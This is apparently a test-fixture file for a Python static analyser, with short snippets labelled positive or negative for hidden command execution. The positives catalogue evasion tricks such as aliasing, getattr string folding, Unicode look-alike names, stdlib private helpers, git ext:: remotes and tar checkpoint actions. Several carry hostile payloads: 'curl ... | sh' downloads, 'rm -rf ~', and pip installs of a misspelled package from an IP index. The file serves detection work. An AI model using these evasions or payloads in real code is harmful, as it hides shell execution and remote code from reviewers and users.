#@ pos direct
import os
os.system("ls -l")
#@ pos module alias
import os as o
o.system("id")
#@ pos function imported under another name
from os import system as run_it
run_it("id")
#@ pos star import
from subprocess import *
check_output(["uname", "-a"])
#@ pos assigned to a variable
import subprocess
launcher = subprocess.Popen
launcher(["sh"])
#@ pos dynamic import of a concatenated name
__import__("sub" + "process").run(["id"])
#@ pos getattr with a folded name
import os
getattr(os, "sys" + "tem")("id")
#@ pos module found through sys.modules
import sys
sys.modules["os"].popen("id")
#@ pos importlib
import importlib
sp = importlib.import_module("subprocess")
sp.call(["ls"])
#@ pos exec family
import os
os.execvp("sh", ["sh"])
#@ pos reversed string
import os
getattr(os, "metsys"[::-1])("id")
#@ pos pty
import pty
pty.spawn("/bin/sh")
#@ neg os.path functions
import os
print(os.path.join("a", "b"), os.getcwd())
#@ neg a method called system on another object
class Machine:
    def system(self, x):
        return x
m = Machine()
m.system("fine")
#@ neg the words in strings and comments
# os.system("rm -rf /") would be bad
print("subprocess.run is documented at docs.python.org")
#@ neg subprocess constants only
import subprocess
print(subprocess.PIPE)
#@ pos a function that returns os.system
import os
def get():
    return os.system
get()("id")
#@ pos a lambda
import os
g = lambda: os.popen
g()("id")
#@ pos stored on self
import os
class Runner:
    def __init__(self):
        self.run = os.system
    def go(self):
        self.run("id")
#@ pos in a dict
import os
table = {"go": os.system}
table["go"]("id")
#@ pos functools.partial
import functools, os
functools.partial(os.system, "id")()
#@ pos passed to map
import os
list(map(os.system, ["id", "ls"]))
#@ pos thread target
import threading, subprocess
threading.Thread(target=subprocess.run, args=(["id"],)).start()
#@ neg the program's own function named system
def system(cmd):
    return cmd.upper()
system("id")
#@ neg a dict of ordinary functions
table = {"go": print, "len": len}
table["go"]("hi")
#@ pos a lone CR ends a comment, as CPython reads it
# cimport os; os.system("id")
#@ pos a backslash at the end of a comment, then CR
# c \import os; os.system("id")
#@ pos after a Latin-1 cookie, decoded
# -*- coding: latin-1 -*-
s = '��'; import os; os.system("id")
#@ pos NFKC names: fullwidth letters are the same name to CPython
import os; ｏｓ.ｓｙｓｔｅｍ("id")
#@ pos NFKC names: the long s and mathematical letters
import 𝐨𝐬; 𝐨𝐬.ſystem("id")
#@ neg a name with a letter that NFKC keeps
import os; café = 1; os.syѕtem("id")
#@ pos pydoc's pager runs a shell command
import pydoc
pydoc.pipepager("", "id")
#@ pos _posixsubprocess, under subprocess
import _posixsubprocess
_posixsubprocess.fork_exec
_posixsubprocess.fork_exec(["sh"], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, False, None, None, None, -1, None)
#@ neg pydoc's help text of a module
import pydoc
print(pydoc.render_doc(len))
#@ pos a shell inside timeit's statement
import timeit
timeit.timeit("__import__('os').system('id')", number=1)
#@ pos a shell inside cProfile.Profile().run's command
import cProfile
cProfile.Profile().run("import os; os.system('id')")
#@ pos os.system called through __call__
import os
os.system.__call__("id")
#@ pos pip run as a library, from another index
from pip._internal.cli.main import main
main(["install", "--index-url", "http://203.0.113.7/simple", "reqests"])
#@ pos posix, the module os re-exports
import posix
posix.system("id")
#@ pos from posix import
from posix import system as s
s("id")
#@ pos posix by __import__
__import__("posix").popen("id")
#@ pos a function name spelled with \N{...} escapes
import os
getattr(os, "\N{LATIN SMALL LETTER S}\N{LATIN SMALL LETTER Y}stem")("id")
#@ neg posix.getpid
import posix
print(posix.getpid())
#@ neg a \N{...} name that is not a shell function
import os
print(getattr(os, "\N{LATIN SMALL LETTER G}etcwd")())
#@ pos pipes.Template runs its steps with /bin/sh
import pipes
t = pipes.Template()
t.append("curl -s http://x/i.sh | sh; cat", "--")
t.open("/tmp/o", "w").write("x")
#@ pos imaplib.IMAP4_stream runs a command
import imaplib
imaplib.IMAP4_stream("sh -c id")
#@ neg another class's append
class T:
    def append(self, cmd, kind):
        pass
T().append("curl x | sh", "--")
#@ pos builtins reached as print.__self__
getattr(print.__self__, "ex" + "ec")("import os; os.system('id')")
#@ pos posix reached as a function's __self__
import os
getattr(os.getcwd.__self__, "system")("id")
#@ pos a shell in a doctest example
import doctest
def f():
    """
    >>> import os
    >>> os.system("curl -s http://x/i | sh")  # doctest: +SKIP
    """
doctest.testmod()
#@ neg the same example, with no doctest run
def f():
    """
    >>> import os
    >>> os.system("curl -s http://x/i | sh")
    """
#@ pos a shell spelled as bytes of a constant list
import subprocess
subprocess.run([bytearray([47, 98, 105, 110, 47, 115, 104]).decode(), "-c", "id"])
#@ pos a shell and -c handed to uuid's command helper
import uuid
uuid._get_command_stdout("/bin/" + "sh", "-c", "id")
#@ pos a shell and -c in a list handed to spawnv_passfds
import multiprocessing.util as mu
mu.spawnv_passfds("/bin/sh", ["sh", "-c", "id"], ())
#@ pos bash given ["-c", ...] by a process library
import pexpect
pexpect.spawn("bash", ["-c", "id"])
#@ pos a shell and -c in a list bound to a name, handed on
import multiprocessing.util as u
argv = ["/bin/sh", "-c", "id"]
u.spawnv_passfds(argv[0], argv, ())
#@ neg a list of option flags with -c in it
FLAGS = ["-v", "-c", "--config"]
print(FLAGS)
#@ neg an option parser with a -c flag
import argparse
ap = argparse.ArgumentParser()
ap.add_argument("-c", "--config", default="sh")
#@ neg a container started with sh -c inside it (the shell is not the program)
print(["docker", "run", "--rm", "python:3.12", "sh", "-c", "python -m pytest -q"])
#@ pos a module another module keeps: tempfile's os
import tempfile
tempfile._os.system("id")
#@ pos a shell line with shell=True hidden in **opts
import subprocess
OPTS = {"shell": True}
subprocess.run("curl -s http://x/s | sh", **OPTS)
#@ pos an argparse default that pipes a download to a shell
import argparse, subprocess
ap = argparse.ArgumentParser()
ap.add_argument("--step", nargs="*", default=["bash", "-c", "curl -s http://x/b | bash"])
opts = ap.parse_args()
subprocess.call(opts.step)
#@ pos multiprocessing's interpreter replaced (set_executable)
import multiprocessing
multiprocessing.set_executable("/tmp/worker")
multiprocessing.get_context("spawn").Process(target=print).start()
#@ pos a context's interpreter replaced, for a process pool
import concurrent.futures, multiprocessing as mp
ctx = mp.get_context("forkserver")
ctx.set_executable("/tmp/worker")
#@ pos spawn's set_executable
from multiprocessing import spawn
spawn.set_executable("/tmp/worker")
#@ pos the event loop's subprocess_shell fetched with getattr
import asyncio
async def main():
    loop = asyncio.get_running_loop()
    await getattr(loop, "subprocess_" + "shell")(asyncio.SubprocessProtocol, input())
asyncio.run(main())
#@ pos a git setting that runs a command, in a tuple a helper applies
import subprocess
for k, v in [("core.fsmonitor", "sh -c 'curl -s http://x | sh' #")]:
    subprocess.run(["git", "config", "--global", k, v])
#@ pos core.sshCommand in a settings dictionary
import subprocess
S = {"core.sshCommand": "ssh -i /tmp/k"}
for k, v in S.items():
    subprocess.run(["git", "config", k, v])
#@ neg ordinary git settings in a tuple list
import json
print(json.dumps([("pull.rebase", "true"), ("user.name", "CI")]))
#@ pos the Docker daemon's socket connected to
import socket
s = socket.socket(socket.AF_UNIX)
s.connect("/var/run/docker.sock")
#@ neg a project's own Unix socket connected to
import socket
s = socket.socket(socket.AF_UNIX)
s.connect("/tmp/myapp/app.sock")
#@ pos tar's checkpoint action running a command
import subprocess
subprocess.run(["tar", "-cf", "/tmp/b.tar", ".", "--checkpoint=1", "--checkpoint-action=exec=sh x.sh"])
#@ pos a shell named by a function's __name__, given -c
import os
def bash():
    pass
os.execvp(bash.__name__, [bash.__name__, "-c", "id"])
#@ pos a command kept in a class built by type() and set again at run time
import subprocess
Hooks = type("Hooks", (), {"build": "make -j2"})
Hooks.build = input()
subprocess.run(Hooks.build, shell=True)
#@ pos a command started through a distutils compiler's spawn
from distutils.ccompiler import new_compiler
new_compiler().spawn(["s" + "h", "-c", "id"])
#@ pos setuptools' copy of distutils.spawn.spawn
import setuptools._distutils.spawn as sp
sp.spawn(["make"])
#@ neg a compiler that compiles and links
from distutils.ccompiler import new_compiler
cc = new_compiler()
cc.link_shared_object(cc.compile(["a.c"]), "liba.so")
#@ pos ensurepip's private runner of pip
import ensurepip
ensurepip._run_pip(["install", "--index-url", "http://203.0.113.9/simple", "x"])
#@ neg ensurepip's bootstrap of its own wheels
import ensurepip
ensurepip.bootstrap(upgrade=True)
#@ pos a function fetched by __getattribute__ with its name
import os
os.__getattribute__("system")("id")
#@ pos a shell script the program writes
with open("tool", "w") as fh:
    fh.write("#!/bin/sh\nexec make \"$@\"\n")
#@ pos a shell script written by Path.write_text
from pathlib import Path
Path("run").write_text("#!/usr/bin/env bash\nls\n")
#@ neg a text file written
with open("notes.txt", "w") as fh:
    fh.write("#!not a script\n")
#@ pos an identity function the program rebinds through globals()
import os
def _id(f):
    return f
globals()["_id"] = os.system
_id("rm -rf ~").real
#@ pos a private helper of the standard library that runs a command line
import _osx_support
_osx_support._read_output("curl -s https://example.net/x | sh")
#@ pos the same helper imported under another name
from _osx_support import _read_output as probe
probe("rm -rf ~")
#@ pos the build-tool finder, whose name is pasted into a command line
import _osx_support
_osx_support._find_build_tool("cc; curl -s https://example.net/x | sh")
#@ pos the helper handed on
import _osx_support
list(map(_osx_support._read_output, ["id"]))
#@ neg the module's configuration functions
import _osx_support
_osx_support.customize_config_vars({"CFLAGS": "-O2"})
#@ pos CPython's test helper runs a child interpreter
from test.support import script_helper
script_helper.run_python_until_end("-c", "print(1)")
#@ pos the helper imported under another name
from test.support.script_helper import assert_python_ok as check
check("-c", "print(1)")
#@ neg the test helper's file-making functions
from test.support import script_helper
script_helper.make_script(".", "demo", "print(1)")
#@ pos ed fed a ! line
import subprocess
subprocess.run(["ed", "-s", "f.txt"], input="!id\nq\n", text=True)
#@ pos ex reading a command's output, vim -es calling system()
import subprocess
subprocess.run(["ex", "-s", "f"], input="r !curl -s https://x.example/ | sh\nx\n", text=True)
subprocess.run(["vim", "-es", "f"], input=":call system('id')\n:wq\n", text=True)
#@ pos a git remote of the ext:: transport
import subprocess
subprocess.run(["git", "clone", "ext::sh -c id", "dst"])
#@ pos an ext:: address joined
import subprocess
kind = "ext"
subprocess.run(["git", "remote", "add", "x", kind + "::" + "bash -c id"])
#@ neg an https remote named
remote = "https://example.org/r.git"
print("mirror of", remote)
#@ neg a text naming the transport
print("see git's ext:: transport in the manual")
#@ pos a shell named as the sh package's attribute
import sh
sh.bash("-c", "id")
#@ pos a downloader imported from plumbum.cmd
from plumbum.cmd import curl
curl("-s", "https://x.example/")
#@ pos plumbum's local indexed with a shell
from plumbum import local
local["bash"]["-c", "id"]()
#@ pos sh.Command of a program not known
import sh
import sys
sh.Command(sys.argv[1])("-c", "id")
#@ pos invoke's run of a command line
from invoke import run
run("curl -s https://x.example/i | sh")
#@ pos fabric's local() on a connection
from fabric import Connection
Connection("localhost").local("wget -qO- https://x.example/i | bash")
#@ neg the sh package running git
import sh
print(sh.git("status"))
#@ neg plumbum's local indexed with git
from plumbum import local
print(local["git"]["log", "-3"]())
#@ pos a dataclass's default_factory list, the object given its list at run time
import subprocess, sys
from dataclasses import dataclass, field
@dataclass
class Cmd:
    argv: list = field(default_factory=lambda: ["git", "status"])
    def run(self):
        return subprocess.run(self.argv)
Cmd(sys.argv[1:]).run()
